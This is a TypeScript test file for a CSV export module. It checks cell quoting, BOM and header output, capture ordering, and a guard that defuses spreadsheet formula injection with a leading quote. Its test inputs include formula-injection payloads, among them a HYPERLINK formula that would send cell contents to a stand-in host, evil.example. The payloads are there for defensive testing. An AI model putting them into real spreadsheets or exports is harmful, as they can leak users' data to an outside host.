import Papa from 'papaparse';
import Dexie from 'dexie';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { openDatabase, type SourcedDatabase } from '../../lib/db/database';
import { FORMULA_PREFIX } from '../../lib/csv-formula-guard';
import { BOM, CSV_COLUMNS, csvRows } from '../../lib/export/csv';
import { stringSink } from '../../lib/export/file';
import { runExport } from '../../lib/export/run-export';
import { seed, variedCaptures } from './export-fixtures';

/** Parse CSV text back into rows, as a spreadsheet's importer would. */
function parse(text: string): string[][] {
  const result = Papa.parse<string[]>(text, {
    header: false,
    delimiter: ',',
    skipEmptyLines: true,
  });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('CSV cells', () => {
  test('commas, quotes and line breaks are quoted and come back unchanged', () => {
    const cells = ['a,b', 'say "hi"', 'two\nlines', 'crlf\r\nend', ' padded ', 'plain'];
    const text = csvRows([cells]);
    expect(text).toBe('"a,b","say ""hi""","two\nlines","crlf\r\nend"," padded ",plain\r\n');
    expect(parse(text)).toEqual([cells]);
  });

  test('emoji and accents pass through as they are', () => {
    const cells = ['Zoë 🎉', '👩🏽‍💻 dev', '日本語'];
    expect(parse(csvRows([cells]))).toEqual([cells]);
  });

  test.each([
    ['=1+1'],
    ['+1'],
    ['-1'],
    ['@SUM(A1)'],
    ['\tstarts with a tab'],
    ['\rstarts with a carriage return'],
    ['=HYPERLINK("https://evil.example/?"&A1)\nsecond line'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(A1)'],
  ])('a cell starting a formula (%j) is defused with a leading quote', (cell) => {
    const [row] = parse(csvRows([[cell]]));
    expect(row).toEqual([`'${cell}`]);
  });

  test('papaparse alone misses a multi-line formula; the prefix test does not', () => {
    const cell = '=1+1\nmore';
    expect(Papa.unparse([[cell]], { escapeFormulae: true })).toBe('"=1+1\nmore"');
    expect(csvRows([[cell]])).toBe(`"'=1+1\nmore"\r\n`);
    expect(FORMULA_PREFIX.test(cell)).toBe(true);
  });

  test('harmless text, numbers and booleans are left alone; absent values are empty', () => {
    const text = csvRows([['a=1', 'x-y', 12000, 1250.5, true, undefined]]);
    expect(text).toBe('a=1,x-y,12000,1250.5,true,\r\n');
  });
});

describe('CSV export', () => {
  let db: SourcedDatabase;
  beforeEach(() => {
    db = openDatabase(`csv-${Math.random()}`);
  });
  afterEach(async () => {
    db.close();
    await Dexie.delete(db.name);
  });

  test('starts with a BOM and a header, then one row per capture in capture order', async () => {
    const captures = variedCaptures();
    await seed(db, captures);
    const sink = stringSink();
    const counts = await runExport(db, 'csv', sink, { clientVersion: '0.1.0' });
    const text = sink.text();
    expect(counts).toEqual({ captures: captures.length, syncLog: 0 });
    expect(text.startsWith(BOM)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);

    const [header, ...rows] = parse(text.slice(BOM.length));
    expect(header).toEqual(CSV_COLUMNS.map((c) => c.name));
    expect(rows).toHaveLength(captures.length);
    const byId = new Map(
      rows.map((row) => [row[0], Object.fromEntries(header!.map((h, i) => [h, row[i]]))]),
    );

    const delivered = byId.get(captures[2]!.id)!;
    expect(delivered).toMatchObject({
      status: 'delivered',
      'outcome.value.amount': '1250.5',
      'outcome.value.currency': 'EUR',
      'outcome.note': 'Said "yes", then signed, at the café 🎉\nSecond line, with a comma',
      // A formula typed into a field is kept, but as text a spreadsheet will not run.
      'outcome.crmRef': `'=HYPERLINK("https://evil.example/?"&A1,"open")`,
      'receipt.id': 'rcpt_42',
    });
    const failed = byId.get(captures[3]!.id)!;
    expect(failed).toMatchObject({
      'employee.name': "'@Zoë Exämple",
      'employee.team': "'-Sales",
      'employee.employeeId': "'+44",
      lastError: 'rejected (422): outcome.stage is not allowed',
    });
    const withdrawn = byId.get(captures[4]!.id)!;
    expect(withdrawn).toMatchObject({
      platform: 'x',
      'post.id': '1790000000000000001',
      'post.excerpt': 'A tab\there, a carriage return\rthere',
      'post.partial': 'true',
      'post.quoted.url': 'https://x.com/other/status/1790000000000000000',
    });
    // Captures come in capturedAt order, ties by id.
    const order = [...captures]
      .sort((a, b) => a.capturedAt.localeCompare(b.capturedAt) || a.id.localeCompare(b.id))
      .map((c) => c.id);
    expect(rows.map((r) => r[0])).toEqual(order);
  });

  test('an empty database exports the header alone', async () => {
    const sink = stringSink();
    await runExport(db, 'csv', sink, { clientVersion: '0.1.0' });
    expect(sink.text()).toBe(BOM + CSV_COLUMNS.map((c) => c.name).join(',') + '\r\n');
  });
});
